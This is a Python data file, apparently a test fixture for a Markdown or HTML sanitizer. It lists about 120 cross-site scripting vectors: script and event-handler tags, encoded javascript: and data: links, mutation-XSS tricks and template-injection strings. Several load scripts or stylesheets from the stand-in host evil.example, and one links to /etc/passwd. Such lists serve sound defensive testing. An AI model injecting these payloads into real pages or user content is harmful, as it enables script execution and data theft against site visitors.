"""Attempts to get a script through Markdown or HTML, one on each line (\\n stands for a line end)."""

VECTORS = [
    line.replace("\\n", "\n").replace("\\t", "\t").replace("\\0", "\0")
    for line in r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">alert(1)</script>
<script/src=data:,alert(1)>
<img src=x onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src="javascript:alert(1)">
<img/src='x'onerror=alert(1)>
<img src=x onerror\n=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<base href="javascript:alert(1)//">
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(javascript:alert(1))}</style>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a onclick=alert(1)>x</a>
<a href="x" style="position:fixed;inset:0">x</a>
<div style="width:expression(alert(1))">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<?xml-stylesheet href="javascript:alert(1)"?>
<![CDATA[<script>alert(1)</script>]]>
<template><script>alert(1)</script></template>
<x onpointerenter=alert(1) style="display:block">x
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](java\tscript:alert(1))
[x](java&#10;script:alert(1))
[x](&#x6A;avascript:alert(1))
[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#x3A;alert(1))
[x](\0javascript:alert(1))
[x](%6Aavascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](<javascript:alert(1)>)
[x](x "onmouseover=alert(1)")
[x](x '"onmouseover="alert(1)')
[x](x" onmouseover="alert(1))
[x](http://a.example/"onmouseover="alert(1))
[x](http://a.example/'><script>alert(1)</script>)
[x]: javascript:alert(1)\n\n[x]
[x]: data:text/html,x "title"\n\n[x]
![x](javascript:alert(1))
![x](x"onerror="alert(1))
![x"onerror="alert(1)](x)
![<img src=x onerror=alert(1)>](http://a.example/x.png)
[![x](javascript:alert(1))](javascript:alert(2))
<javascript:alert(1)>
<data:text/html,x>
<vbscript:x>
<http://a.example/"onclick="alert(1)>
<me@example.org"onclick="alert(1)>
http://a.example/"onmouseover="alert(1)
http://a.example/<script>alert(1)</script>
www.a.example/'onmouseover='alert(1)
javascript:alert(1)
javascript://a.example/%0aalert(1)
mailto:x@example.org?body=<script>alert(1)</script>
`<script>alert(1)</script>`
``` "><script>alert(1)</script>\n<script>alert(1)</script>\n```
~~~ onclick=alert(1)\n</code></pre><script>alert(1)</script>\n~~~
    <script>alert(1)</script>
# <img src=x onerror=alert(1)>
> <svg onload=alert(1)>
- <svg onload=alert(1)>
|<img src=x onerror=alert(1)>|b|\n|-|-|\n|[x](javascript:alert(1))|<script>|
|a|\n|:-:"onclick=alert(1)|\n|b|
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&lt;img src=x onerror=alert(1)&gt;
\<script>alert(1)\</script>
<a href="[x](javascript:alert(1))">
[<a href=javascript:alert(1)>x](http://a.example)
*<img src=x onerror=alert(1)>*
~~<img src=x onerror=alert(1)>~~
1. <iframe src=javascript:alert(1)>
</p></div></body><script>alert(1)</script>
"><script>alert(1)</script>
'-alert(1)-'
${alert(1)}
{{constructor.constructor('alert(1)')()}}
{% include "x" %}
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<İmg src=x onerror=alert(1)>
<svg\x0conload=alert(1)>
<a/href="javascript&NewLine;:alert(1)">x</a>
<<script>alert(1)//<</script>
<script>alert(1)<!--
""".strip("\n").split("\n")
]
